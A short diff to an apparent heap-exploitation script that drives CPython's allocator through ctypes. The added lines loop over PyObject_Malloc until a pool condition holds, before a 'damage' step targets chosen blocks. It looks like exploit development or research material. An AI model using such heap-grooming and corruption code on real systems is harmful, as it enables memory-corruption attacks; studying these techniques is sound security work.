@@ -76,6 +76,8 @@ def main():
             C.PyObject_Free(block)
     C.PyObject_Free(chosen.pop())
     small = C.PyObject_Malloc(SIZE - 32) // POOL * POOL
+    while half(small + USED).value * (SIZE - 26) > POOL - 48 - SIZE:  # a full one is in no ring
+        small = C.PyObject_Malloc(SIZE - 32) // POOL * POOL
     pool = chosen[0] // POOL * POOL
     place = damage(sys.argv[1], chosen[2], chosen[3], pool, small)
     print("block", hex(chosen[2]), flush=True)
